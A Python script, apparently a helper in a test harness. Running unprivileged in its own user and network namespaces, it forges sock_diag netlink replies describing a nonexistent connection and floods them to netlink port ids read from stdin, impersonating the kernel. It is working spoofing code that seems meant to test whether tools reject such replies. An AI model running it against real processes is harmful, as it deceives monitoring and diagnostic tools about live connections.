#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""
netlink_liar.py: as an ordinary user who is root in namespaces of its own, answers sock_diag's questions there in the
kernel's place. Says its pairs are ready; then each number on stdin is a netlink port (a pid) that it writes to until the
next line, in the name of a connection that is not there.
"""

import ctypes
import fcntl
import os
import select
import socket
import struct
import sys

from say import say

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, NLM_F_MULTI = 4, 20, 2
SIOCSIFFLAGS, IFF_UP = 0x8914, 1


def write(path, text):
    with open(path, "w", encoding="ascii") as file:
        file.write(text)


def enter(uid):
    """A user with nothing, in namespaces in which it may do everything."""
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(4, 1)  # PR_SET_DUMPABLE: its files in /proc are its own again
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET):
        say("refused", error=os.strerror(ctypes.get_errno()))
        sys.exit(0)
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", f"0 {uid} 1")
    write("/proc/self/gid_map", f"0 {uid} 1")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", IFF_UP))


def make_pairs(count):
    """So that going through them takes a while."""
    pairs = []
    with socket.create_server(("127.0.0.1", 7777), backlog=4096) as listener:
        for _ in range(count):
            pairs.append(socket.create_connection(listener.getsockname()))
            pairs.append(listener.accept()[0])
    return pairs


def lie(local, peer):
    """An inet_diag_msg: ESTABLISHED, inode 4242, cookie 77."""
    address = (
        struct.pack("!HH", local[1], peer[1])
        + socket.inet_aton(local[0]).ljust(16, b"\0")
        + socket.inet_aton(peer[0]).ljust(16, b"\0")
        + struct.pack("=III", 0, 77, 0)
    )
    body = struct.pack("=BBBB", socket.AF_INET, 1, 0, 0) + address + struct.pack("=IIIII", 0, 0, 0, 0, 4242)
    return struct.pack("=IHHII", 16 + len(body), SOCK_DIAG_BY_FAMILY, NLM_F_MULTI, 0, 0) + body


def main():
    enter(65534)
    pairs = make_pairs(400)
    liar = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)
    message, ports = lie(("10.9.9.9", 80), ("10.8.8.8", 5555)), []
    say("ready", pairs=len(pairs))
    while True:
        if select.select([sys.stdin], [], [], 0 if ports else None)[0]:
            line = sys.stdin.readline()
            if not line:
                break
            ports = [int(word) for word in line.split()]
            say("lying")
        for port in ports * 20:
            try:
                liar.sendto(message, socket.MSG_DONTWAIT, (port, 0))
            except OSError:
                pass  # there is no such port, or it takes nothing from here


main()
